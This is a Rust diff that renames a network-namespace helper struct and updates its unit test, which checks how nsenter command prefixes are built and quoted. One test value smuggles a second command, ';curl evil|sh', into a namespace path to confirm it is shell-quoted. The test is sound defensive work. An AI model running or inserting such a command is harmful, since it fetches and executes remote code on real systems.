@@ -4,7 +4,7 @@
 use crate::{aggregate::observed::Observed, kernel::rules::Sysctls, outside};
 
 /// One network namespace, seen from the shell that will run the fix.
-pub(crate) struct Place {
+pub(crate) struct NetnsShell {
     netns: u32,
     /// What is in front of a command there; `None`: no way is known.
     prefix: Option<String>,
@@ -12,7 +12,7 @@ pub(crate) struct Place {
     pub(super) sysctls: Sysctls,
 }
 
-impl Place {
+impl NetnsShell {
     /// `own`: settings of the namespace that the agent is in; `pid`: a process of `netns`, if one is known.
     pub(super) fn of(observed: &Observed, own: &Sysctls, netns: u32, pid: Option<u32>) -> Self {
         let is_own = own.netns.is_none_or(|own| own == netns);
@@ -57,14 +57,14 @@ mod tests {
             ..SpaceFacts::default()
         };
         let observed = Observed { spaces: std::sync::Arc::new([(2, there)].into()), ..Observed::default() };
-        let place = |netns, pid| Place::of(&observed, &own, netns, pid);
-        assert_eq!((place(1, None).command("x"), place(1, None).sysctls.tcp_tw_reuse), ("x".into(), Some(2)));
-        assert_eq!(place(2, Some(9)).command("x"), "nsenter --net=/run/netns/blue x");
-        let edited = Place::behind(2, Some("/proc/1/ns/net;curl evil|sh"), Sysctls::default());
+        let shell = |netns, pid| NetnsShell::of(&observed, &own, netns, pid);
+        assert_eq!((shell(1, None).command("x"), shell(1, None).sysctls.tcp_tw_reuse), ("x".into(), Some(2)));
+        assert_eq!(shell(2, Some(9)).command("x"), "nsenter --net=/run/netns/blue x");
+        let edited = NetnsShell::behind(2, Some("/proc/1/ns/net;curl evil|sh"), Sysctls::default());
         assert_eq!(edited.command("x"), "nsenter --net='/proc/1/ns/net;curl evil|sh' x");
-        assert_eq!(place(2, None).sysctls.tcp_tw_reuse, Some(0));
-        assert_eq!(place(3, Some(9)).command("x"), "nsenter -t 9 -n x");
-        assert_eq!(place(3, None).command("x"), "# in network namespace 3: x");
-        assert_eq!(place(3, None).sysctls, Sysctls::default());
+        assert_eq!(shell(2, None).sysctls.tcp_tw_reuse, Some(0));
+        assert_eq!(shell(3, Some(9)).command("x"), "nsenter -t 9 -n x");
+        assert_eq!(shell(3, None).command("x"), "# in network namespace 3: x");
+        assert_eq!(shell(3, None).sysctls, Sysctls::default());
     }
 }
